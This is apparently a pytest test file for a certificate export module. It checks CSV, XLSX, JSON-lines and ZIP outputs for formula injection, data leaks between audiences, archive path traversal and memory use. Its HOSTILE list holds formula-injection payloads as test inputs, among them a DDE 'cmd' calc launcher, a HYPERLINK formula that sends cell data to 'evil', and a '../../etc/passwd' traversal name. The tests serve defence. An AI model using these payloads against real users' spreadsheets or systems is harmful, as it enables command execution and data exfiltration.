"""Exports: others' readers read them, no cell is a formula, nobody reads what is not for them, memory is constant."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from xml.etree import ElementTree

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agent.certificates.certificate import Certificate, certificate_id, verify
from agent.certificates.keys import read_public
from agent.certificates.record import Asset, Customer, Disposition, Operator, Reason
from collector.certificates.exports import workbook as workbooks
from collector.certificates.exports.bundle import bundle
from collector.certificates.exports.cells import SIGNS, harmless
from collector.certificates.exports.columns import ALL, HEADINGS, PERSONAL, Audience, Language, columns_for
from collector.certificates.exports.text_files import json_lines, machine_csv, people_csv
from collector.certificates.exports.workbook import workbook
from collector.certificates.exports.zip_stream import ZipStream
from collector.certificates.rules import HEADINGS as ALL_HEADINGS
from collector.certificates.rules import Shown, Stored, show
from tests.agent.samples import record
from tests.collector.certificates.samples import (
    KEY,
    KID,
    NOTHING,
    PAYLOAD,
    attested,
    erased,
    not_erased,
    signed,
    unread,
)
from tests.patience import PROGRAM_S

SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
HOSTILE = [
    *(sign + "1+1" for sign in "=+-@\t\r\n"),
    "=cmd|'/c calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil/?\"&A1,\"x\")",
    "  =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u00a0\u3000=1+1",
    "＝1+1",
    "＋1",
    "−1",
    '"=1+1',
    '","=1+1',
    "a;=1+1",
    'a,"=1+1"',
    "a|=1+1",
    "a\n=1+1",
    "\x00=1+1",
    "\x1b[2J\u202e=1+1",
    "=" * 1000,
]  # fmt: skip
PEOPLE = ("Kolding Kommune", "LOT-7", "Ø-99", "op-17", "Åse Berg", "KOL-00001")
both_languages = pytest.mark.parametrize("language", ["da", "en"])


def row(certificate: Certificate, **columns: object) -> Shown:
    return show(Stored(certificate.id, certificate.compact, KID, KEY.public_key(), columns))


def broken() -> Shown:
    made = erased()
    return show(Stored(made.id, made.compact[:-5] + b"AAAAA", KID, KEY.public_key()))


def every() -> list[Shown]:
    return [row(erased()), row(unread()), row(attested()), row(not_erased()), broken()]


def hostile(text: str) -> Shown:
    """A certificate in which every text that somebody may choose is this one."""
    drive = msgspec.structs.replace(record().drive, vendor=text, model=text, serial=text, wwn=text)
    station = msgspec.structs.replace(record().station, location=text, name=text, organisation=text)
    return row(
        erased(
            number=text,
            outcome="failed",
            reason=Reason(text, text, text),
            sanitization=msgspec.structs.replace(NOTHING, method=text, technique=text),
            finished_at=text,
            drive=drive,
            station=station,
            asset=Asset(tag=text, manufacturer=text, model=text, serial=text),
            customer=Customer(name=text, lot=text, reference=text),
            operator=Operator(id="x", name=text),
            disposition=Disposition(grade=text),
        )
    )


def read_csv(data: bytes, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def is_formula(cell: str) -> bool:
    return cell.lstrip(' \t\r\n"\u00a0\u3000\u200b\ufeff')[:1] in set(SIGNS) if cell.strip() else False


def whole(pieces: Iterator[bytes]) -> bytes:
    return b"".join(pieces)


@both_languages
def test_people_get_their_own_words_a_byte_order_mark_and_semicolons(language: Language) -> None:
    data = whole(people_csv(every(), audience="full", language=language))
    assert data.startswith(b"\xef\xbb\xbf")
    head, *lines = read_csv(data, ";")
    assert head == [column.heading(language) for column in ALL]
    outcome = [line[1] for line in lines]
    first = ["Slettet", "Slettet, ikke læst tilbage", "Attesteret, ikke målt", "Ikke slettet: destruer", "Holder ikke"]
    if language == "da":
        assert outcome == first
        assert dict(zip(head, lines[0], strict=True))["Kapacitet (GB)"] == "0,1"
    else:
        assert outcome[:2] == ["Erased", "Erased, not read back"]
    assert lines[0][3] == "2026-11-22 20:00"
    assert len({len(line) for line in (head, *lines)}) == 1


def test_programs_get_names_and_what_was_signed() -> None:
    data = whole(machine_csv(every(), audience="full"))
    lines = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
    assert [line["outcome"] for line in lines] == ["erased", "unread", "attested", "failed", "does_not_hold"]
    assert lines[0]["finished_at"] == "2026-11-22T20:00:00Z"
    assert lines[0]["capacity_bytes"] == str(64 << 20)
    assert lines[0]["serial"] == "S00000001"
    assert lines[0]["customer"] == "Kolding Kommune"


def test_json_lines_hold_the_record_as_it_was_signed() -> None:
    lines = [json.loads(line) for line in whole(json_lines(every(), audience="full")).splitlines()]
    assert lines[0]["record"] == json.loads(msgspec.json.encode(erased().record))
    assert (lines[0]["outcome"], lines[0]["number"]) == ("erased", "bench-01-000001")
    assert lines[-1]["record"] is None
    for line in whole(json_lines(every(), audience="buyer")).splitlines():
        assert "record" not in json.loads(line)


def test_a_record_with_lines_and_figures_that_no_program_holds_is_one_line_and_the_same() -> None:
    payload = (
        json.dumps(json.loads(PAYLOAD), indent=1).encode()[:-1] + b',\r\n"later": 1e999, "more": ' + b"9" * 5000 + b"}"
    )
    compact = signed(payload)
    shown = show(Stored(certificate_id(compact), compact, KID, KEY.public_key()))
    assert shown.heading == "erased"
    (line,) = whole(json_lines([shown], audience="full")).splitlines()
    assert b'"later": 1e999, "more": ' + b"9" * 5000 in line
    assert json.loads(line, parse_int=str)["record"]["number"] == "bench-01-000001"


def test_what_does_not_hold_claims_nothing_in_any_form() -> None:
    line = dict(
        zip((c.name for c in ALL), read_csv(whole(machine_csv([broken()], audience="full")), ",")[1], strict=True)
    )
    assert {name for name, cell in line.items() if cell} == {"outcome", "certificate", "key", "problem"}


def test_a_row_that_says_otherwise_is_said() -> None:
    shown = show(
        Stored(erased().id, erased().compact, KID, KEY.public_key(), {"outcome": "failed"}),
        lambda c: {"outcome": "erased"},
    )
    line = read_csv(whole(machine_csv([shown], audience="full")), ",")[1]
    assert (line[1], line[-1]) == ("erased", "outcome")


FORMS: dict[str, Callable[[list[Shown], Audience], bytes]] = {
    "people": lambda rows, audience: whole(people_csv(rows, audience=audience, language="da")),
    "machine": lambda rows, audience: whole(machine_csv(rows, audience=audience)),
    "lines": lambda rows, audience: whole(json_lines(rows, audience=audience)),
    "xlsx": lambda rows, audience: b"".join(sheet_texts(whole(workbook(rows, audience=audience, language="da")))),
}


@pytest.mark.parametrize("form", FORMS)
def test_a_buyer_and_a_bookkeeper_learn_no_customer_tag_or_person(form: str) -> None:
    audiences: tuple[Audience, ...] = ("buyer", "finance")
    for audience in audiences:
        told = FORMS[form](every(), audience).decode("utf-8")
        assert [secret for secret in PEOPLE if secret in told] == []
        assert erased().id in told
    assert "Kolding Kommune" in FORMS[form](every(), "full").decode("utf-8")
    assert {c.name for c in columns_for("finance")} == {"number", "outcome", "certificate", "problem"}
    assert not PERSONAL & {c.name for c in columns_for("buyer")}


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_of_a_csv_file_is_a_formula_with_whatever_separator_it_is_opened(text: str) -> None:
    for data in (
        whole(people_csv([hostile(text)], audience="full", language="da")),
        whole(machine_csv([hostile(text)], audience="full")),
    ):
        for delimiter in ";,|\t":
            cells = [cell for line in read_csv(data, delimiter) for cell in line]
            assert [cell for cell in cells if is_formula(cell)] == []


@given(text=st.text(st.sampled_from('=+-@＝;,|" \t\r\n\x00\u200b\u202eab1'), max_size=12))
@settings(max_examples=300, deadline=None)
def test_no_text_at_all_begins_a_cell_as_a_formula(text: str) -> None:
    for delimiter in ";,|":
        buffer = io.StringIO(newline="")
        csv.writer(buffer, delimiter=";", quoting=csv.QUOTE_ALL, lineterminator="\r\n").writerow(
            ["x", harmless(text), "y"]
        )
        for line in csv.reader(io.StringIO(buffer.getvalue(), newline=""), delimiter=delimiter):
            assert [cell for cell in line if is_formula(cell)] == []


@given(text=st.text(max_size=30))
@settings(max_examples=100, deadline=None)
def test_a_plain_text_stays_as_it_is(text: str) -> None:
    if text.isprintable() and not set(text) & set(SIGNS):
        assert harmless(text) == text


def sheet_texts(data: bytes) -> Iterator[bytes]:
    """The sheets of a workbook, as XML."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in sorted(archive.namelist()):
            if name.startswith("xl/worksheets/"):
                yield archive.read(name)


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_of_a_workbook_is_a_formula_a_link_or_another_file(text: str) -> None:
    data = whole(workbook([hostile(text)], audience="full", language="en"))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.testzip() is None
        assert not [name for name in archive.namelist() if "external" in name.lower() or "vba" in name.lower()]
    (sheet,) = sheet_texts(data)
    tree = ElementTree.fromstring(sheet)
    assert [node.tag for node in tree.iter() if node.tag in (SHEET + "f", SHEET + "hyperlink")] == []
    kinds = {cell.get("t") for cell in tree.iter(SHEET + "c") if cell.find(SHEET + "is") is not None}
    assert kinds == {"inlineStr"}


def test_a_workbook_has_real_dates_and_numbers_and_a_head_that_stays() -> None:
    data = whole(workbook(every(), audience="full", language="da"))
    (sheet,) = sheet_texts(data)
    tree = ElementTree.fromstring(sheet)
    rows = list(tree.iter(SHEET + "row"))
    assert len(rows) == 6
    moment = next(cell for cell in rows[1] if cell.get("r") == "D2")
    assert float(moment.findtext(SHEET + "v") or 0) == pytest.approx(46348.8333, abs=1e-3)  # 2026-11-22 20:00
    assert tree.find(f".//{SHEET}pane") is not None


def test_a_sheet_that_is_full_goes_on_in_the_next(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(workbooks, "MOST_ROWS", 3)
    data = whole(workbook(every(), audience="finance", language="da"))
    assert [sheet.count(b"<row ") for sheet in sheet_texts(data)] == [3, 3, 2]


def test_an_export_of_nothing_has_its_head() -> None:
    assert len(read_csv(whole(people_csv([], audience="full", language="da")), ";")) == 1
    assert [sheet.count(b"<row ") for sheet in sheet_texts(whole(workbook([], audience="full", language="en")))] == [1]
    assert whole(json_lines([], audience="full")) == b""
    with zipfile.ZipFile(io.BytesIO(whole(bundle([], language="da")))) as archive:
        assert sorted(archive.namelist()) == ["LÆS-MIG.txt", "keys.jwks", "liste.csv"]


def test_a_download_that_is_given_up_leaves_nothing_on_the_disk(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TMPDIR", str(tmp_path))
    monkeypatch.setattr("tempfile.tempdir", None)
    pieces = workbook(every(), audience="full", language="da")
    next(pieces)
    assert list(tmp_path.iterdir())
    del pieces
    assert list(tmp_path.iterdir()) == []


@both_languages
def test_the_archive_holds_each_signed_file_its_page_the_list_and_the_keys(language: Language, tmp_path: Path) -> None:
    path = tmp_path / "certificates.zip"
    path.write_bytes(whole(bundle(every(), language=language)))
    with zipfile.ZipFile(path) as archive:
        assert archive.testzip() is None
        archive.extractall(tmp_path)
        names = archive.namelist()
    keys = read_public(tmp_path / "keys.jwks")
    for made in (erased(), unread(), attested(), not_erased()):
        compact = (tmp_path / made.file_name).read_bytes()
        assert verify(compact, keys).id == made.id
        (page,) = (name for name in names if name.endswith(f"{made.id[:12]}.pdf"))
        assert (tmp_path / page).read_bytes().startswith(b"%PDF-")
    bad = [name for name in names if "/" in name]
    assert {Path(name).suffix for name in bad} == {".jws", ".txt"}
    listed = read_csv((tmp_path / ("liste.csv" if language == "da" else "list.csv")).read_bytes(), ";")
    assert len(listed) == 1 + len(every())


def test_the_systems_own_unzip_reads_it(tmp_path: Path) -> None:
    path = tmp_path / "certificates.zip"
    path.write_bytes(whole(bundle(every(), language="en", pages="signed files alone")))
    done = subprocess.run(["unzip", "-t", path], capture_output=True, text=True, timeout=PROGRAM_S, check=False)
    assert (done.returncode, "No errors" in done.stdout) == (0, True)


@pytest.mark.parametrize("number", ["../../etc/passwd", "C:\\x", "=1", "\x00", "", "." * 300, "a/b", "æøå"])
def test_no_name_in_the_archive_climbs_or_hides(number: str) -> None:
    data = whole(bundle([row(erased(number=number))], language="en"))
    for name in zipfile.ZipFile(io.BytesIO(data)).namelist():
        assert set(name) <= set("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789._-")
        assert not name.startswith(".")
        assert ".." not in name.split("-")[0] or not name.endswith("/")


@pytest.mark.parametrize(("most", "largest"), [(3, 0xFFFF_FFFF), (0xFFFF, 2000), (3, 2000)])
def test_more_files_or_bytes_than_the_old_form_holds_are_read_all_the_same(
    most: int, largest: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("collector.certificates.exports.zip_stream.MOST", most)
    stream, data = ZipStream(), b""
    for number in range(8):
        data += whole(stream.add(f"{number}.bin", [bytes([number]) * 100, b"x" * 700]))
        if number == 4:
            monkeypatch.setattr("collector.certificates.exports.zip_stream.FARTHEST", min(largest, len(data)))
    data += whole(stream.end())
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.testzip() is None
        assert [archive.read(f"{number}.bin")[:1] for number in range(8)] == [bytes([n]) for n in range(8)]


def test_every_heading_has_its_words() -> None:
    assert set(HEADINGS) == set(ALL_HEADINGS)
    assert all(da and en and da != en for da, en in HEADINGS.values())
    assert len({column.name for column in ALL}) == len(ALL)


MEASURE = """
import resource, sys
from dataclasses import replace
from tests.collector.certificates.test_exports import erased, row
from collector.certificates.exports import bundle, text_files, workbook, zip_stream
def files(stream):
    for row in rows:
        yield from stream.add(row.id, [b"x" * 100])
    yield from stream.end()
kind, count = sys.argv[1], int(sys.argv[2])
one = row(erased())
rows = (replace(one, id=f"{n:064x}") for n in range(count))
made = {
    "people": lambda: text_files.people_csv(rows, audience="finance", language="da"),
    "lines": lambda: text_files.json_lines(rows, audience="finance"),
    "xlsx": lambda: workbook.workbook(rows, audience="finance", language="da"),
    "bundle": lambda: bundle.bundle(rows, language="da", pages="signed files alone"),
    "zip": lambda: files(zip_stream.ZipStream()),
}[kind]()
size = sum(map(len, made))
print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, size)
"""


# `make prove-collector` takes all of them; `make test` as many as show a buffer that keeps 120 bytes a row.
WHOLE = {"people": 100_000, "lines": 100_000, "xlsx": 100_000, "zip": 100_000, "bundle": 8_000}
LOTS = {kind: rows if os.environ.get("BENCHWIPE_PROVE") else rows // 4 for kind, rows in WHOLE.items()}


@pytest.mark.parametrize("kind", LOTS)
def test_a_hundred_times_the_rows_need_no_more_memory(kind: str) -> None:
    """Of whole signed files, each a ZIP entry like any other, some fewer are taken, for the time that they take."""
    few, many = (_measured(kind, count) for count in (LOTS[kind] // 100, LOTS[kind]))
    assert many[1] > 20 * few[1]
    assert many[0] - few[0] < (6 if LOTS == WHOLE else 3) * 1024  # KiB


def _measured(kind: str, count: int) -> tuple[int, int]:
    done = subprocess.run(
        [sys.executable, "-c", MEASURE, kind, str(count)], capture_output=True, text=True, timeout=PROGRAM_S, check=True
    )
    used, size = done.stdout.split()
    return int(used), int(size)


def test_the_samples_of_these_tests_are_what_they_say() -> None:
    assert [shown.heading for shown in every()] == ["erased", "unread", "attested", "failed", "does_not_hold"]
    assert replace(row(erased()), id="x").id == "x"
